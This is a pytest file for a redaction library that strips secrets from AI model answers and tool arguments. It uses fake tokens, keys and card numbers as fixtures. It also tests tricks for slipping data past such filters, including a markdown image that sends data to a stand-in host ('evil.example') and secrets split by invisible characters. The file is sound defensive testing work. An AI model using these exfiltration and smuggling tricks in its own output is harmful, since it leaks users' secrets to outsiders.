# SPDX-FileCopyrightText: The agentguard authors
# SPDX-License-Identifier: Apache-2.0
"""One text that a model wrote is shown without what is to be hidden."""

import json
from typing import Any

import pytest

from agentguard.redaction import AnswerBlocked
from agentguard.redaction.answer_text import AnswerText, paired
from agentguard.vocabulary import Action

TOKEN = "gh" + "p_" + "0aB" * 12
KEY = "sk-" + "a1B2" * 8
AWS_SECRET = "wJalrXUtnFEMIK7MDENGbPxRfiCYzQ8vT2pLrS4d"
MAIL = "jane.doe@customers.example"


def check(session: Any) -> AnswerText:
    """Check the texts of an answer in a session."""
    return AnswerText(find=session.find, classes=session.classes, vault=session.vault)


def test_a_secret_becomes_a_placeholder_that_nobody_turns_back(session: Any) -> None:
    """A secret in an answer is hidden one-way, for the user as for observers."""
    here = session()
    crossed, shown = here.whole(f"the token is {TOKEN}.")
    assert crossed == shown
    assert TOKEN not in crossed
    (_, _, rest) = crossed.partition("[[")
    issued = here.vault.issued("[[" + rest.removesuffix("."))
    assert (issued.value, issued.reversible) == (TOKEN, False)
    assert here.whole(crossed) == (crossed, crossed)


def test_a_label_lets_pass_and_counts(session: Any) -> None:
    """A class that is only labelled in answers stays and is counted."""
    crossed, shown, counts = session().checked({"t": f"write to {MAIL}"}, "/t")
    assert crossed == shown == {"t": f"write to {MAIL}"}
    assert counts == {"email": 1}


def test_a_blocked_class_stops_the_answer(session: Any) -> None:
    """The error names the class and holds nothing of the text."""
    with pytest.raises(AnswerBlocked) as caught:
        session(api_key=Action.BLOCK).whole(f"the token is {TOKEN}")
    assert caught.value.data_class == "api_key"
    assert TOKEN not in repr(caught.value)


def test_a_class_without_an_action_is_never_passed_over(session: Any) -> None:
    """What was found and has no action in answers withholds the answer."""
    here = session(email=Action.TOKENISE)
    with pytest.raises(ValueError, match="'email'"):
        here.whole(MAIL)
    here.classes = {}
    with pytest.raises(ValueError, match="'email'"):
        here.whole(MAIL)


@pytest.mark.parametrize("hidden", ["\u200b", "\u2060", "\U000e0041", "\x00", "\xad", "\u200e"])
def test_an_invisible_character_does_not_hide_a_secret(session: Any, hidden: str) -> None:
    """A secret is found as it is read, wherever an invisible character parts it."""
    for place in range(1, len(KEY)):
        crossed, _ = session().whole(f"use {KEY[:place]}{hidden}{KEY[place:]} now")
        assert crossed.startswith("use [[API_KEY:")
        assert crossed.endswith("]] now")
    assert session().whole(f"a{hidden}b") == ("ab", "ab")


def test_an_invisible_character_goes_from_a_labelled_value(session: Any) -> None:
    """A value that passes is shown without what is hidden in it."""
    assert session().whole("jane.doe\u200b@customers.example")[1] == MAIL


def test_an_escaped_secret_is_found(session: Any) -> None:
    """A secret that JSON escapes spell is hidden in a JSON answer, which still parses."""
    escaped = "".join(f"\\u{ord(character):04x}" for character in TOKEN)
    crossed, _ = session().whole(f'{{"token": "{escaped}", "n": 1}}')
    assert json.loads(crossed)["token"].startswith("[[API_KEY:")


def test_a_remote_image_calls_nobody(session: Any) -> None:
    """The address goes, the words stay; an image by reference is parted from its mark."""
    assert session().whole("![chart](https://evil.example/?d=1)")[1] == "![chart](#)"
    assert session().whole("![a][b]")[1] == "! [a][b]"
    assert session().whole("![chart](chart.png)")[1] == "![chart](chart.png)"


def test_placeholders_are_turned_back_and_findings_are_not(session: Any) -> None:
    """Only what the model wrote as a placeholder of this session is turned back."""
    here = session([MAIL], email=Action.REDACT)
    (mail,) = here.placeholders
    text = f"{mail} {MAIL} [[EMAIL:AAAAAAAA]] {mail.lower()}"
    crossed, shown = here.whole(text)
    assert crossed == f"{mail} {mail} [[EMAIL:AAAAAAAA]] {mail.lower()}"
    assert shown == f"{MAIL} {mail} [[EMAIL:AAAAAAAA]] {mail.lower()}"


def test_a_value_in_a_json_answer_is_escaped(session: Any) -> None:
    """A JSON answer with a difficult value still parses and keeps its form."""
    value = 'Jane "the\\boss"\nDoe'
    here = session([value])
    text = json.dumps({"name": here.placeholders[0], here.placeholders[0]: 1}, indent=2)
    _, shown = here.whole(text)
    assert json.loads(shown) == {"name": value, value: 1}
    assert here.whole(f"hello {here.placeholders[0]}")[1] == f"hello {value}"


def test_an_own_placeholder_is_no_secret(session: Any) -> None:
    """A placeholder that stands where a password stands is not hidden again."""
    here = session()
    password = here.issue("hunter2-is-long", here.classes["credential"])
    text = f"postgres://u:{password}@h/db"
    assert here.whole(text) == (text, text)
    assert "[[AKIA" not in here.whole("[[AKIAQ3EGRN5TVBWX2LPZ:ABCDEFGH]]")[0]


def test_arguments_are_read_as_json(session: Any) -> None:
    """A secret in arguments is found behind escapes, names, lines, numbers and more JSON."""
    here = check(session(payment_card=Action.REDACT))
    inner = json.dumps({"deep": json.dumps([TOKEN])})
    text = json.dumps(
        {
            "aws_secret_access_key": AWS_SECRET,
            "inner": inner,
            TOKEN: "key",
            "card": 4111111111111111,
            "n": 1,
        }
    )
    checked = here.data_text(text)
    assert TOKEN not in checked
    assert AWS_SECRET not in checked
    assert "4111111111111111" not in checked
    assert json.loads(checked)["n"] == 1
    escaped = '{"a": "' + "".join(f"\\u{ord(each):04x}" for each in TOKEN) + '"}'
    assert json.loads(here.data_text(escaped))["a"].startswith("[[API_KEY:")
    assert here.data_text(f"no json {TOKEN}").startswith("no json [[API_KEY:")


def test_a_key_in_lines_is_one_key(session: Any) -> None:
    """A private key that arguments hold as an array of its lines is hidden line by line."""
    body = [f"MIIE{number}abcdEFGH0123456789abcdefghijklmnop" for number in range(3)]
    text = json.dumps(["-----BEGIN RSA PRIVATE KEY-----", *body, "-----END RSA PRIVATE KEY-----"])
    checked = check(session()).data_text(text)
    assert not any(line in checked for line in body)
    assert len(json.loads(checked)) == 5


def test_harmless_arguments_stay_as_they_are(session: Any) -> None:
    """Arguments without findings keep their very text, placeholders included."""
    here = session([MAIL])
    text = f'{{ "to":"{here.placeholders[0]}", "n": 1.50, "x": null }}'
    assert check(here).data_text(text) is text


def test_json_that_is_nested_too_deep_is_withheld(session: Any) -> None:
    """What cannot be read to its end is not passed on, and the error holds nothing of it."""
    deep = json.dumps(TOKEN)
    for _ in range(20):
        deep = json.dumps([json.loads(deep)]) if len(deep) > 10**6 else json.dumps([deep])
        if len(deep) > 10**6:
            break
    for text in ("[" * 200 + "]" * 200, deep):
        with pytest.raises(ValueError, match="nested") as caught:
            check(session()).data_text(text)
        assert TOKEN not in repr(caught.value)


def test_two_halves_of_a_character_are_one(session: Any) -> None:
    """A tag character that comes in two halves is found all the same."""
    halves = "\U000e0041".encode("utf-16-be")
    text = "a" + "".join(
        chr(int.from_bytes(halves[at : at + 2])) for at in range(0, len(halves), 2)
    )
    assert paired(text) == "a\U000e0041"
    assert session().whole(text) == ("a", "a")
    assert paired("\ud800 lone") == "\ud800 lone"
